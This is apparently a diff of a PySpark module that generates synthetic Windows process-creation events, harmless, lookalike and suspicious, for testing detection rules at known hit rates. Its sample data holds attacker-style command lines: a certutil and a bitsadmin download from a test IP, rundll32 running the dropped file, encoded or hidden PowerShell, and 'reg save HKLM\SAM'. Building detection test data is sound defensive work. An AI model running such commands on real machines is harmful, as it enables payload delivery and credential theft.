@@ -1,78 +1,112 @@
-"""Synthetic events of process creation, made in parallel from a seed and the event's number."""
+"""Synthetic events of process creation, made in parallel from a seed and the event's number.
+
+An event tells of a work station that starts a program. What happens is drawn by hashes of the seed and the number, so any
+part of a data set can be made anywhere. Columns are those of flat events of process creation, all text.
+"""
 
 from __future__ import annotations
 
+from dataclasses import dataclass
+
 from pyspark.sql import Column, DataFrame, SparkSession
 from pyspark.sql import functions as F
 
-BENIGN, NEAR_MISS = 70, 90
-#: (kind, image, description, command lines, parent image)
-PROFILES = [
-    ("benign", "C:\\Windows\\explorer.exe", "Shell", ["explorer.exe", "explorer.exe /factory"], "C:\\Windows\\System32\\userinit.exe"),
-    ("benign", "C:\\Program Files\\Office\\winword.exe", "Writer", ["winword.exe /n", "winword.exe report.docx"], "C:\\Windows\\explorer.exe"),
-    ("benign", "C:\\Windows\\System32\\svchost.exe", "Service host", ["svchost.exe -k netsvcs"], "C:\\Windows\\System32\\services.exe"),
-    ("near_miss", "C:\\Windows\\System32\\cmd.exe", "Command processor", ["cmd.exe /c dir", "cmd.exe /c echo whoami-docs"], "C:\\Windows\\explorer.exe"),
-    ("near_miss", "C:\\Windows\\System32\\certutil.exe", "Certificates", ["certutil.exe -dump store"], "C:\\Windows\\System32\\mmc.exe"),
-    ("suspicious", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "Script host", ["powershell.exe -enc SQBFAFgA", "powershell.exe -nop -w hidden"], "C:\\Program Files\\Office\\winword.exe"),
-    ("suspicious", "C:\\Windows\\System32\\whoami.exe", "Identity", ["whoami /priv", "whoami /all"], "C:\\Windows\\System32\\cmd.exe"),
-    ("suspicious", "C:\\Windows\\System32\\certutil.exe", "Certificates", ["certutil.exe -urlcache -split -f http://10.0.0.5/a.bin"], "C:\\Windows\\System32\\cmd.exe"),
-]
-USERS, INTEGRITY = ["LAB\\ann", "LAB\\ben", "NT AUTHORITY\\SYSTEM", "LAB\\svc"], ["Medium", "High", "System"]
+#: Of 100 events so many are harmless, and so many more only look suspicious; controlled hits are counted in runs of 10,000.
+HARMLESS, LOOKALIKE, RUN = 70, 20, 10_000
 
 
-def _draw(seed: int, name: str, n: int) -> Column:
-    return F.pmod(F.xxhash64(F.lit(seed), F.lit(name), "event_id"), F.lit(n)).cast("int")
+@dataclass(frozen=True)
+class Program:
+    folder: str
+    name: str
+    about: str
+    #: Arguments; # stands for a number that is drawn for each event.
+    arguments: tuple[str, ...]
+    parent: str
 
 
-def _pick(items: list[str], i: Column) -> Column:
-    return F.get(F.array(*map(F.lit, items)), i)
+_SYSTEM, _TOOLS = "C:\\Windows\\System32\\", "D:\\Tools\\"
+HARMLESS_PROGRAMS = (
+    Program(_SYSTEM, "notepad.exe", "Text editor", ("notes-#.txt", "todo.txt"), "taskmgr.exe"),
+    Program(_TOOLS, "packer.exe", "Archive tool", ("add -o box-#.zip in", "list box-#.zip"), "menu.exe"),
+    Program(_TOOLS, "viewer.exe", "Picture viewer", ("scan-#.png",), "menu.exe"),
+    Program(_SYSTEM, "robocopy.exe", "Copies folders", ("D:\\in E:\\out\\# /mir",), "nightly.exe"),
+)
+LOOKALIKES = (
+    Program(_SYSTEM, "schtasks.exe", "Task planner", ("/query /tn job-#", "/query /fo list"), "menu.exe"),
+    Program(_SYSTEM, "bitsadmin.exe", "Transfer tool", ("/list", "/info job-#"), "nightly.exe"),
+)
+SUSPICIOUS = (
+    Program(_SYSTEM, "bitsadmin.exe", "Transfer tool", ("/transfer job-# http://198.51.100.7/#.dat D:\\drop.dat",), "viewer.exe"),
+    Program(_SYSTEM, "rundll32.exe", "Runs library code", ("D:\\drop.dat,Start #", "shell.dat,#"), "packer.exe"),
+    Program(_SYSTEM, "reg.exe", "Registry tool", ("save HKLM\\SAM D:\\#.hiv",), "rundll32.exe"),
+)
+ACCOUNTS = ("SHOP\\till", "SHOP\\office", "SHOP\\store", "SHOP\\night", "SHOP\\guest")
+LEVELS = ("Low", "Medium", "System")
 
 
-def events(spark: SparkSession, n: int, seed: int = 42) -> DataFrame:
-    """event_id and 17 fields of text: 70 in 100 benign, 20 nearly suspicious, 10 suspicious."""
-    kinds = {k: [p for p in PROFILES if p[0] == k] for k in ("benign", "near_miss", "suspicious")}
-    roll = _draw(seed, "kind", 100)
+class _Dice:
+    def __init__(self, seed: int):
+        self.seed = seed
+
+    def below(self, what: str, n: int) -> Column:
+        return F.pmod(F.xxhash64("event_id", F.lit(what), F.lit(self.seed)), F.lit(n))
 
-    def of(value: int) -> Column:
-        pick = lambda kind: _pick([p[value] for p in kinds[kind]], _draw(seed, "profile", len(kinds[kind])))
-        return F.when(roll < BENIGN, pick("benign")).when(roll < NEAR_MISS, pick("near_miss")).otherwise(pick("suspicious"))
+    def of(self, what: str, items: tuple[str, ...]) -> Column:
+        return F.get(F.array(*map(F.lit, items)), self.below(what, len(items)).cast("int"))
 
-    lines = lambda kind: F.element_at(F.array(*(F.array(*map(F.lit, p[3])) for p in kinds[kind])), _draw(seed, "profile", len(kinds[kind])) + 1)
-    choices = F.when(roll < BENIGN, lines("benign")).when(roll < NEAR_MISS, lines("near_miss")).otherwise(lines("suspicious"))
-    image, parent = of(1), of(4)
-    name = lambda path: F.regexp_extract(path, r"([^\\]*)$", 1)
-    row = spark.range(n).withColumnRenamed("id", "event_id")
-    fields = F.struct(
-        F.lit("process_creation").alias("category"), F.lit("windows").alias("product"), F.lit("1").alias("EventID"), image.alias("Image"), name(image).alias("OriginalFileName"), of(2).alias("Description"), F.lit("Example").alias("Company"),
-        F.get(choices, F.pmod(F.xxhash64(F.lit(seed), F.lit("line"), "event_id"), F.size(choices)).cast("int")).alias("CommandLine"), parent.alias("ParentImage"), name(parent).alias("ParentCommandLine"),
-        _pick(USERS, _draw(seed, "user", len(USERS))).alias("User"), _pick(INTEGRITY, _draw(seed, "level", len(INTEGRITY))).alias("IntegrityLevel"), F.lit("C:\\Windows\\system32\\").alias("CurrentDirectory"),
-        (1000 + _draw(seed, "pid", 60000)).cast("string").alias("ProcessId"), (400 + _draw(seed, "ppid", 4000)).cast("string").alias("ParentProcessId"), F.concat(F.lit("0x"), F.lower(F.hex(F.lit(0x3E7) + F.col("event_id") % 5))).alias("LogonId"),
-        F.concat(F.lit("MD5="), F.upper(F.md5(F.concat(F.lit(f"{seed}/"), F.col("event_id").cast("string")))), F.lit(",SHA256="), F.upper(F.sha2(F.concat(F.lit(f"{seed}/"), F.col("event_id").cast("string")), 256))).alias("Hashes"),
-    )
-    # Through a generator, so that the optimizer does not copy these expressions into every test of a field.
-    return row.select("event_id", F.explode(F.array(fields)).alias("event")).select("event_id", "event.*")
+
+def _program(dice: _Dice, programs: tuple[Program, ...]) -> Column:
+    """A struct of one of the programs and its command line."""
+    each = [F.struct(F.lit(p.folder + p.name).alias("image"), F.lit(p.name).alias("name"), F.lit(p.about).alias("about"), dice.of(p.name, p.arguments).alias("arguments"), F.lit(p.parent).alias("parent")) for p in programs]
+    return F.get(F.array(*each), dice.below("program", len(programs)).cast("int"))
+
+
+def events(spark: SparkSession, n: int, seed: int = 42) -> DataFrame:
+    """event_id and 17 fields of text: 70 in 100 harmless, 20 that look suspicious, 10 suspicious."""
+    dice = _Dice(seed)
+    share = dice.below("kind", 100)
+    chosen = F.when(share < HARMLESS, _program(dice, HARMLESS_PROGRAMS)).when(share < HARMLESS + LOOKALIKE, _program(dice, LOOKALIKES)).otherwise(_program(dice, SUSPICIOUS))
+    rows = spark.range(n).withColumnRenamed("id", "event_id")
+    # Through generators, so that the optimizer does not copy these expressions into every test of a field.
+    rows = rows.select("event_id", F.explode(F.array(chosen)).alias("p"))
+    line = F.concat_ws(" ", F.col("p.name"), F.replace(F.col("p.arguments"), F.lit("#"), dice.below("number", 1000).cast("string")))
+    digest = F.sha2(F.concat_ws(":", F.lit(str(seed)), "p.image"), 256)
+    fields = {
+        "category": F.lit("process_creation"), "product": F.lit("windows"), "EventID": F.lit("1"),
+        "Image": F.col("p.image"), "OriginalFileName": F.col("p.name"), "Description": F.col("p.about"), "Company": F.lit("Corner Shop"), "CommandLine": line,
+        "ParentImage": F.concat(F.lit(_TOOLS), F.col("p.parent")), "ParentCommandLine": F.concat_ws(" ", F.col("p.parent"), F.lit("--quiet")),
+        "User": dice.of("account", ACCOUNTS), "IntegrityLevel": dice.of("level", LEVELS), "CurrentDirectory": F.lit("D:\\work\\"),
+        "ProcessId": (4 * dice.below("process", 8191) + 4).cast("string"), "ParentProcessId": (4 * dice.below("parent", 2047) + 4).cast("string"),
+        "LogonId": F.concat(F.lit("0x"), F.lower(F.hex(dice.below("logon", 1 << 20)))), "Hashes": F.concat(F.lit("SHA256="), digest),
+    }
+    return rows.select("event_id", F.explode(F.array(F.struct(*(c.alias(name) for name, c in fields.items())))).alias("event")).select("event_id", "event.*")
 
 
-def is_hit(number: Column, per_ten_thousand: int) -> Column:
-    return number % 10000 < per_ten_thousand
+def is_hit(number: Column, per_run: int) -> Column:
+    return number % RUN < per_run
 
 
-def expected_hits(n: int, per_ten_thousand: int) -> int:
-    return n // 10000 * per_ten_thousand + min(n % 10000, per_ten_thousand)
+def expected_hits(n: int, per_run: int) -> int:
+    whole, rest = divmod(n, RUN)
+    return whole * per_run + min(rest, per_run)
 
 
-def controlled(spark: SparkSession, n: int, per_ten_thousand: int, seed: int = 42) -> DataFrame:
-    """Events with A4Hit, which is 1 for a known number of them."""
-    return events(spark, n, seed).withColumn("A4Hit", F.when(is_hit(F.col("event_id"), per_ten_thousand), "1").otherwise("0"))
+def controlled(spark: SparkSession, n: int, per_run: int, seed: int = 42) -> DataFrame:
+    """Events with the field A4Hit, which is 1 for a known number of them."""
+    return events(spark, n, seed).withColumn("A4Hit", F.when(is_hit(F.col("event_id"), per_run), "1").otherwise("0"))
 
 
 def as_windows_records(df: DataFrame) -> DataFrame:
-    """Flat events as nested records of the Windows event log."""
-    data = [c for c in df.columns if c not in ("event_id", "category", "product", "EventID")]
-    system = F.struct(F.col("EventID").cast("int").alias("EventID"), F.lit("Microsoft-Windows-Sysmon/Operational").alias("Channel"), F.lit("Microsoft-Windows-Sysmon").alias("Provider_Name"))
-    return df.select("event_id", F.struct(F.struct(system.alias("System"), F.struct(*data).alias("EventData")).alias("Event")).alias("record")).select("event_id", F.to_json("record").alias("value"))
+    """event_id and value: events as the flat JSON records into which logs of Windows are turned, with numbers where those have them."""
+    numbers = {"EventID", "ProcessId", "ParentProcessId"}
+    own = [F.col(c).cast("long").alias(c) if c in numbers else F.col(c) for c in df.columns if c not in ("event_id", "category", "product")]
+    record = F.struct(F.lit("Microsoft-Windows-Sysmon/Operational").alias("Channel"), F.concat(F.lit("station-"), F.col("event_id") % 16).alias("Computer"), F.col("event_id").alias("EventRecordID"), *own)
+    return df.select("event_id", F.to_json(record).alias("value"))
 
 
-def write_json(df: DataFrame, path: str) -> None:
-    """JSON lines of flat events."""
+def write_json(df: DataFrame, path: str, twin: str | None = None) -> None:
+    """JSON lines of flat events; at twin, if named, the same events as records of the Windows log."""
     df.drop("event_id").write.mode("overwrite").json(path)
+    if twin:
+        as_windows_records(df).select("value").write.mode("overwrite").text(twin)
